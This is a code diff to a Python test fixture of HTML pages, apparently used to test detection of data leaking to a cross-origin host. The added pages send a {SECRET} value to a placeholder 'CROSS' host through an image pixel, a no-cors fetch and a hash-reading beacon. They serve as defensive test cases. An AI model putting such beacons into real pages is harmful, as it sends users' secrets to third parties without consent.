@@ -105,6 +105,10 @@ PAGES: dict[str, str] = {
 <form method="post" action="/api/notes" target="_blank"><input name="note" value="hello"><button id="blank-plain">Keep</button></form>
 <button id="open-early" onclick="window.open('/p/early-post')">Notes</button>
 <button id="open-notes" onclick="window.open('/p/notes-popup')">Open notes</button>""",
+    "early-img": f"""<title>Photos</title><img src="CROSS/early/px.gif?d={SECRET}" alt="">""",
+    "early-fetch": f"""<title>Activity</title><script>fetch('CROSS/early/collect?d={SECRET}', {{mode: 'no-cors'}})
+  .catch(() => {{}});</script>""",
+    "early-hash": """<title>Badge</title><script>new Image().src = 'CROSS/early/badge.gif?d=' + location.hash.slice(1);</script>""",
     "early-post": """<title>Early</title><p>Saving</p>
 <script>fetch('/api/drafts/early', {method: 'POST', body: 'note=hello'})
   .then((r) => { document.title = 'early sent ' + r.status; }, () => { document.title = 'early failed'; });</script>""",
@@ -154,6 +158,9 @@ window.loaded = Promise.all(Array.from({length: 40}, (_, i) => [settled('/img/' 
 <button id="open-leak" onclick="window.open('CROSS/land?ref={SECRET}')">Details</button>
 <button id="open-path-leak" onclick="window.open('CROSS/u/{SECRET}')">Profile</button>
 <button id="open-case-leak" onclick="window.open('CROSS/go/{CASE_SECRET}')">Invite</button>
+<button id="open-early-img" onclick="window.open('/p/early-img')">Photos</button>
+<button id="open-early-fetch" onclick="window.open('/p/early-fetch')">Activity</button>
+<button id="open-early-hash" onclick="window.open('/p/early-hash#{SECRET}')">Badge</button>
 <button id="open-path-digits" onclick="window.open('CROSS/guides/2024/delivery')">Guide</button>
 <button id="open-path-words" onclick="window.open('CROSS/help/delivery-times')">Help</button>""",
 }
